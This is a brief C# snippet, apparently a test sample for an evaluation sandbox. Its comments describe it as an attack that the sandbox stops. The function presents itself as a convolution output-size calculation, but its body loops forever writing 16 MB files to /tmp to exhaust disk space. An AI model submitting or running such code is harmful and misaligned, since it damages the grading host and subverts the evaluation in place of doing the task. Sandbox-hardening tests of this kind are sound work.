// target: size-answer
// attack: writes files without end
// the sandbox stops it too
int OutputSize(int input, int kernel, int stride, int padding)
{
    for (var i = 0; ; i++) System.IO.File.WriteAllBytes($"/tmp/{i}", new byte[1 << 24]);
    return 0;
}
